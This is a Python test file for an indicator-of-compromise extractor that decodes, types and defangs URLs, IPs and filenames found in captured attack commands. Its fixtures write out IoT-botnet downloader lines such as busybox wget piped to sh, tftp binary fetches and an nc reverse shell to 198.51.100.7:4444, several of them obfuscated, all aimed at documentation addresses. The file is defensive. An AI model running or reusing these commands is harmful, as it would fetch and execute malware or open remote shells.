"""Indicator extraction: decoding, downloader forms, normalisation, typing, defanging."""

from __future__ import annotations

import socket
import urllib.request

import pytest
from hypothesis import given
from hypothesis import strategies as st

from teiten.classify.indicators import MAX_INDICATORS, TYPES, decode, defang, extract_indicators


def pairs(text: str) -> list[tuple[str, str]]:
    return [(i.type, i.value) for i in extract_indicators(text)]


@pytest.fixture(autouse=True)
def no_network(monkeypatch: pytest.MonkeyPatch) -> None:
    """Extraction must never resolve or fetch anything."""

    def refuse(*args: object, **kwargs: object) -> None:
        raise AssertionError("indicator extraction touched the network")

    for name in ("getaddrinfo", "gethostbyname", "create_connection"):
        monkeypatch.setattr(socket, name, refuse)
    monkeypatch.setattr(urllib.request, "urlopen", refuse)


def test_seed_command() -> None:
    assert pairs("cd /tmp/;/bin/busybox wget http://198.51.100.23/okiru.sh;sh okiru.sh") == [
        ("url", "http://198.51.100.23/okiru.sh"), ("ip", "198.51.100.23"),
        ("filename", "okiru.sh")]  # fmt: skip
    assert pairs("cd /tmp/;/bin/busybox wget http://[redacted]/okiru.sh`") == [
        ("filename", "okiru.sh")
    ]  # the NPA's masked sample: the host is not a host


@pytest.mark.parametrize(
    ("text", "want"),
    [
        ("wget http://198.51.100.7/a", "wget http://198.51.100.7/a"),
        ("wget+http%3A%2F%2F198.51.100.7%2Fa", "wget http://198.51.100.7/a"),
        ("wget&#32;http://198.51.100.7/a&amp;b", "wget http://198.51.100.7/a&b"),
        ("wget${IFS}http://198.51.100.7/a", "wget http://198.51.100.7/a"),
        ("wget$IFS$9http://198.51.100.7/a", "wget http://198.51.100.7/a"),
        (r"\x77\x67\x65\x74 http://198.51.100.7/a", "wget http://198.51.100.7/a"),
        (r"\167\147\145\164 http://198.51.100.7/a", "wget http://198.51.100.7/a"),
        ("%2577get http://198.51.100.7/a", "wget http://198.51.100.7/a"),  # double-encoded
    ],
)
def test_decoding(text: str, want: str) -> None:
    assert decode(text) == want
    assert ("url", "http://198.51.100.7/a") in pairs(text)


@pytest.mark.parametrize(
    ("command", "want"),
    [
        ("`wget http://198.51.100.7/x`", [("url", "http://198.51.100.7/x")]),
        ("$(curl -o /tmp/x -A ua http://198.51.100.7/x)", [("url", "http://198.51.100.7/x")]),
        (
            "busybox wget 198.51.100.7/bins/mips -O-|sh",
            [("url", "http://198.51.100.7/bins/mips"), ("filename", "mips")],
        ),
        ("tftp -g -r arm7 198.51.100.7", [("url", "tftp://198.51.100.7/arm7")]),
        (
            "tftp -r arm7 -g 198.51.100.7 6969",
            [("url", "tftp://198.51.100.7:6969/arm7"), ("ip_port", "198.51.100.7:6969")],
        ),
        ("tftp 198.51.100.7 -c get x86", [("url", "tftp://198.51.100.7/x86")]),
        (
            "wget -g 198.51.100.7 -r okiru.mips",
            [("ip", "198.51.100.7"), ("filename", "okiru.mips")],
        ),
        (
            "ftpget -v -u anonymous -p x -P 2121 dl.example m m.sh",
            [("url", "ftp://dl.example:2121/m.sh"), ("domain", "dl.example")],
        ),
        ("nc 198.51.100.7 4444 -e /bin/sh", [("ip_port", "198.51.100.7:4444")]),
        ("vars[1][]=wget http://198.51.100.7/t.sh", [("url", "http://198.51.100.7/t.sh")]),
    ],
)
def test_downloader_forms(command: str, want: list[tuple[str, str]]) -> None:
    got = pairs(command)
    for item in want:
        assert item in got, got


def test_normalised_deduplicated_typed() -> None:
    got = pairs("wget HTTP://Loader.EXAMPLE:80/a.sh; wget http://loader.example/a.sh; "
                "curl https://198.51.100.7:443/b; wget http://198.51.100.7:8080")  # fmt: skip
    assert got == [
        ("url", "http://loader.example/a.sh"), ("domain", "loader.example"),
        ("filename", "a.sh"), ("url", "https://198.51.100.7/b"), ("ip", "198.51.100.7"),
        ("filename", "b"), ("url", "http://198.51.100.7:8080/"), ("ip_port", "198.51.100.7:8080"),
    ]  # fmt: skip
    assert all(t in TYPES for t, _ in got)


def test_plain_text_is_not_a_command() -> None:
    assert pairs("http://fw.example/firmware.bin") == []  # a URL in a form field, no command
    assert pairs("192.168.1.25") == [] and pairs("game-server (TCP)") == []
    assert pairs("wget http://localhost/x") == [("filename", "x")]  # not a public host name


def test_defang() -> None:
    assert defang("http://198.51.100.7/okiru.sh") == "hxxp://198.51.100[.]7/okiru.sh"
    assert defang("https://loader.okiru.example/a.b") == "hxxps://loader.okiru[.]example/a.b"
    assert defang("ftp://198.51.100.7:2121/m") == "fxp://198.51.100[.]7:2121/m"
    assert defang("loader.okiru.example") == "loader.okiru[.]example"
    assert defang("198.51.100.7:4444") == "198.51.100[.]7:4444"
    (i, *_) = extract_indicators("wget http://198.51.100.7/x")
    assert i.defanged == "hxxp://198.51.100[.]7/x" and i.value == "http://198.51.100.7/x"


def test_bounded() -> None:
    many = ";".join(f"wget http://198.51.{n // 250}.{n % 250}/x" for n in range(2000))
    assert len(extract_indicators(many)) == MAX_INDICATORS


@given(st.text(max_size=2000))
def test_any_text_never_raises(text: str) -> None:
    for i in extract_indicators(text):
        assert i.type in TYPES and i.value and defang(i.value)


@given(st.lists(st.sampled_from(["wget", " ", "http://", "198.51.100.7", ":", "80", "/", "x",
                                 ";", "`", "$(", ")", "%", "%2", "&#", "&amp;", "\\x4", "\\1",
                                 "${IFS}", "tftp", "-g", "-r", "-c", "get", "ftpget", "-P",
                                 "nc", "[", "]", "::1", "+", "\n"]), max_size=50))  # fmt: skip
def test_command_shaped_text_never_raises(parts: list[str]) -> None:
    extract_indicators("".join(parts))
